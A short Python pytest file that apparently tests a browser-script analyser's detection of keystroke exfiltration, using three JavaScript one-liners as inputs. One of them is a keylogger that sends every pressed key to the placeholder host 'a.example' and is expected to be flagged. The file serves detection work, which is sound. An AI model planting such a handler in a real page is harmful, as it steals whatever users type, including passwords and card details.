"""Functions that see keys or the field."""

from __future__ import annotations

import pytest

from tests.client_scripts.test_script_analysis import analysed


@pytest.mark.parametrize(
    ("script", "leaks"),
    [
        ('document.onkeypress = function (e) { fetch("//a.example", e.key); };', 1),
        ('document.onclick = function (e) { fetch("//a.example", e.key); };', 0),
        ('document.onkeypress = function (e) { fetch("//a.example", e.type); };', 0),
    ],
)
def test_keys_are_seen_by_handlers_of_keys_alone(script: str, leaks: int) -> None:
    assert len(analysed(script).exfiltrations) == leaks
